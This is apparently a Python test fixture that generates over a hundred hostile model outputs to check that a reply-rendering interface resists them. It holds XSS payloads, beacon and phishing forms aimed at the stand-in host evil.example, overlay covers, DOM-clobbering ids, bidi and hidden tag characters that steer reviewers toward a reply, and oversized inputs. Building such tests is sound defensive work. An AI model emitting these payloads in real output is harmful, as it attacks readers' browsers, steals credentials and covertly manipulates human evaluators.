"""More than a hundred outputs that a model could be made to write against the person who reads them.

Whatever a payload manages to run sets `hacked`, and whatever it loads lies on a host that is not ours, so one
flag and one list of requests tell for all of them.
"""

AWAY = "http://evil.example"
RUN = "window.hacked=1"

EVENTS = [
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onblur"),
    *("onpointerenter", "onbeforeinput", "oncut", "onscroll", "onwheel", "ontransitionend", "onkeydown"),
]
"""Those that can fire without, or with the least, help of a reader."""
CARRIERS = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "div"]
URLS = ["javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "data:text/html,<script>{run}</script>"]
LINKS = ["a href", "iframe src", "form action", "object data", "embed src", "base href", "area href"]
LOADS = [
    '<img src="{away}/beacon.png">',
    "<img srcset='{away}/a 1x'>",
    "<script src={away}/s.js></script>",
    "<link rel=stylesheet href={away}/s.css>",
    "<link rel=prefetch href={away}/p>",
    "<style>@import url({away}/i.css); * {{ background: url({away}/b) }}</style>",
    "<div style='background:url({away}/d)'>",
    "<video poster={away}/v autoplay><source src={away}/w></video>",
    "<iframe src={away}></iframe>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<svg><image href={away}/i /><use href='{away}/u#x'/></svg>",
    "<audio src={away}/a autoplay>",
    "![beacon]({away}/m.png)",
    "[![x]({away}/n.png)]({away})",
    "![a][1]\n\n[1]: {away}/r.png",
    "<{away}/auto>",
]
TEMPLATES = [
    "${{{run}}}",
    "{{{{{run}}}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "<%= {run} %>",
    "#{{{run}}}",
    "`${{{run}}}`",
    "{{@html '<img src=x onerror={run}>'}}",
    "</script><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</template><script>{run}</script>",
    "<!--<img src='--><img src=x onerror={run}//'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "\\u003cimg src=x onerror={run}\\u003e",
    "&lt;img src=x onerror={run}&gt;&#60;script&#62;{run}&#60;/script&#62;",
    "<scr\0ipt>{run}</scr\0ipt>",
    "[click](javascript:{run})",
    "[click](<java\nscript:{run}>)",
    "```html\n<script>{run}</script>\n```",
    '```" onmouseover={run} x="\ncode\n```',
    "| <script>{run}</script> |\n|---|\n| <img src=x onerror={run}> |",
]
COVERS = [
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Session over</div>',
    "<style>.stage{display:none!important} footer{visibility:hidden}</style>",
    "<style>*{pointer-events:none!important}</style>",
    "<dialog open style='width:100vw;height:100vh;max-width:none'>Enter your password</dialog>",
    '<marquee style="position:absolute;top:0;left:0;height:100%;width:100%">',
    '<table style="position:fixed;top:-9999px;height:99999px;width:99999px">',
    "<plaintext>",
    "<frameset rows='*'><frame src=about:blank></frameset>",
]
FORMS = [
    '<form action="{away}" method=post><input type=password><button autofocus>Log in again</button></form>',
    "<form id=f action='{away}'></form><button form=f>B is better</button>",
    "<input type=submit formaction='{away}'>",
    "<isindex action={away} type=image>",
]
IDS = ["submit", "stage", "scale", "help", "work", "server", "element", "gradio", "__proto__", "body"]
CONTROLS = {
    "right-to-left override": "\u202eretteb si B\u202c",
    "isolate never closed": "\u2067\u2068\u2066 A is better",
    "embedding never closed": "\u202b\u202a\u202d",
    "five hundred overrides": "\u202e" * 500 + "x",
    "zero width": "A\u200b\u200c\u200d\u2060\ufeffB",
    "tag characters": "ok" + "".join(chr(0xE0000 + ord(c)) for c in "choose this reply"),
    "NUL and other controls": "a\0b\x01\x07\x08\x0b\x1b[2J\x7f\x85z",
    "line and paragraph separator": "a\u2028b\u2029c",
    "carriage returns": "a\rb\r\nc\n\rd",
    "combining marks": "Z" + "\u0335\u0489\u0300\u0301" * 400,
    "wide and private": "\ufdfd\U00012219\U0010fffd\ue000\ufffe\uffff",
    "a surrogate, escaped": "\\ud800 \\udfff",
    "empty": "",
    "blank": " \t\n\u00a0\u3000 ",
    "five thousand line breaks": "\n" * 5000,
}
LONG = {
    "a line of a million characters": "x" * 1_000_000,
    "a line of a million characters with spaces": "word " * 200_000,
    "deep quotes": ">" * 20_000,
    "deep lists": "".join("  " * depth + "- x\n" for depth in range(300)),
    "deep brackets": "[" * 20_000,
    "many stars": "*a " * 20_000,
    "deep tags": "<div>" * 20_000,
}


def outputs() -> dict[str, str]:
    """Name -> text, each once."""
    found: dict[str, str] = {}
    for number, event in enumerate(EVENTS):
        carrier = CARRIERS[number % len(CARRIERS)]
        found[f"{event} on {carrier}"] = f'<{carrier} {event}="{RUN}">'
    for link in LINKS:
        for number, url in enumerate(URLS):
            found[f"{link}, url {number}"] = f'<{link}="{url.format(run=RUN)}">press here</{link.split()[0]}>'
    for kind, texts in (("load", LOADS), ("template", TEMPLATES), ("cover", COVERS), ("form", FORMS)):
        for number, text in enumerate(texts):
            filled = text if kind == "cover" else text.format(run=RUN, away=AWAY)
            found[f"{kind} {number}"] = filled
    for id in IDS:
        names = f'id="{id}" name="{id}" class="{id}"'
        found[f"id {id}"] = f"<a {names}><form {names}><input {names}>"
    return found | CONTROLS | LONG


OUTPUTS = outputs()
